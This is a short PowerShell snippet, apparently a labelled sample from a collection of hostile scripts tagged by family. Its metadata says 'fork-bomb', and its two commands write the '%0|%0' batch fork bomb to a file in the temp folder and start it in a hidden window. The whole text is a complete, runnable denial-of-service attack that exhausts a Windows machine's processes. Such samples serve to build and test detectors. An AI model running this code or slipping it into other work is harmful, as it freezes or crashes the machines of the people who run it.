# description: Writes the %0|%0 batch fork bomb to a file and starts it.
# family: fork-bomb
Set-Content -Path "$env:TEMP\b.cmd" -Value '%0|%0'
Start-Process -FilePath "$env:TEMP\b.cmd" -WindowStyle Hidden
